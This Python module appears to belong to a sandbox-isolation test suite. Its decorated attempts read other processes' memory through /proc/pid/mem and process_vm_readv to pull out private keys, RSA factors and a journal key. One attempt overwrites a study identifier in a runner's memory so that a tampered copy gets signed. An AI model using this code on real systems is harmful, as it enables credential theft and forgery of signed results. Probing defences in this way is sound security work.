"""Reads and writes the memory of the processes outside of the train."""

import ctypes
import os
from collections.abc import Callable, Iterator

from .attempts import Absent, Gain, Pending, attempt
from .kernel_calls import IoVec, call, from_any
from .station_key import factor_in, journal_key_in, key_in, modulus, read_config

_LARGEST = 256 << 20
PROPOSAL = "proposal-4711"
CHANGED_PROPOSAL = "proposal-HACK"


def _writable_maps(pid: int) -> Iterator[tuple[int, int]]:
    """Yield start and size of the mappings in which a process keeps its data."""
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            addresses, rights = line.split()[:2]
            start, end = (int(part, 16) for part in addresses.split("-"))
            if rights.startswith("rw") and end - start <= _LARGEST:
                yield start, end - start


def _by_file(pid: int) -> Iterator[bytes]:
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, size in _writable_maps(pid):
            try:
                memory.seek(start)
                yield memory.read(size)
            except (OSError, OverflowError):  # gone meanwhile, or never readable
                continue


def _by_call(pid: int) -> Iterator[bytes]:
    for start, size in _writable_maps(pid):
        buffer = ctypes.create_string_buffer(size)
        here, there = IoVec(ctypes.addressof(buffer), size), IoVec(start, size)
        count = _transfer("process_vm_readv", pid, here, there)
        yield buffer.raw[:count]


def _transfer(name: str, pid: int, here: IoVec, there: IoVec) -> int:
    return call(name, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


def _found(
    pieces: Callable[[int], Iterator[bytes]], search: Callable[[bytes], str | None]
) -> Callable[[int], str | None]:
    def look(pid: int) -> str | None:
        return next(filter(None, map(search, pieces(pid))), None)

    return look


def _is_factor(data: bytes) -> str | None:
    return factor_in(data, modulus())


@attempt(Gain.KEY, "uid", "landlock", "key-absent", limit_s=60)
def memory_pem() -> str:
    return from_any(_found(_by_file, key_in))


@attempt(Gain.KEY, "uid", "landlock", "key-absent", limit_s=120)
def memory_factor() -> str:
    return from_any(_found(_by_file, _is_factor))


@attempt(Gain.KEY, "uid", "landlock", "key-absent", limit_s=60)
def memory_journal_key() -> str:
    return from_any(_found(_by_file, journal_key_in))


@attempt(Gain.KEY, "uid", "landlock", "seccomp", "key-absent", limit_s=60)
def process_vm_readv_pem() -> str:
    return from_any(_found(_by_call, key_in))


@attempt(Gain.KEY, "uid", "landlock", "seccomp", "key-absent", limit_s=120)
def process_vm_readv_factor() -> str:
    return from_any(_found(_by_call, _is_factor))


@attempt(Gain.SIGNED, "uid", "landlock", limit_s=60)
def memory_proposal_id() -> str:
    """Changes the identity of the study in the copy that the runner will write and sign off."""
    if PROPOSAL not in str(read_config()):
        raise Absent("another proposal_id")
    old, new = PROPOSAL.encode(), CHANGED_PROPOSAL.encode()

    def change(pid: int) -> str | None:
        count = 0
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for start, size in _writable_maps(pid):
                try:
                    memory.seek(start)
                    data = memory.read(size)
                except (OSError, OverflowError):
                    continue
                at = data.find(old)
                while at >= 0:
                    memory.seek(start + at)
                    count += memory.write(new) == len(new)
                    at = data.find(old, at + 1)
        return f"{count} copies changed" if count else None

    raise Pending(from_any(change))


@attempt(Gain.SIGNED, "uid", "landlock", "seccomp")
def process_vm_writev() -> str:
    def change(pid: int) -> str:
        start, _ = next(_writable_maps(pid))
        buffer = ctypes.create_string_buffer(8)
        here, there = IoVec(ctypes.addressof(buffer), 8), IoVec(start, 8)
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            memory.seek(start)
            buffer.raw = memory.read(8)
        return f"{_transfer('process_vm_writev', pid, here, there)} bytes written"

    return from_any(change)


@attempt(Gain.RUNNER, "uid", "landlock")
def memory_addresses() -> str:
    def look(pid: int) -> str | None:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/auxv", "rb") as auxv:
            return "addresses and random bytes" if maps.read(40) and auxv.read(16) else None

    return from_any(look)


@attempt(Gain.RUNNER, "uid", "landlock")
def memory_registers() -> str:
    def look(pid: int) -> str | None:
        with open(f"/proc/{pid}/syscall") as file:
            return file.read(30).strip() or None

    return from_any(look)


@attempt(Gain.RUNNER, "uid", "landlock")
def memory_robust_list() -> str:
    head, size = ctypes.c_void_p(), ctypes.c_size_t()

    def look(pid: int) -> str:
        call("get_robust_list", pid, ctypes.byref(head), ctypes.byref(size))
        return "an address of its thread library"

    return from_any(look)


@attempt(Gain.RUNNER, "uid", "landlock")
def memory_mapped_files() -> str:
    def look(pid: int) -> str | None:
        folder = f"/proc/{pid}/map_files"
        for name in os.listdir(folder):
            os.close(os.open(f"{folder}/{name}", os.O_RDONLY))
            return "the files behind its mappings"
        return None

    return from_any(look)


@attempt(Gain.RUNNER, "uid", "landlock", "caps")
def memory_paged_out() -> str:
    def change(pid: int) -> str:
        start, _ = next(_writable_maps(pid))
        piece = IoVec(start, 4096)
        handle = call("pidfd_open", pid, 0)
        call("process_madvise", handle, ctypes.byref(piece), 1, 21, 0)  # MADV_PAGEOUT
        return "its pages can be paged out"

    return from_any(change)
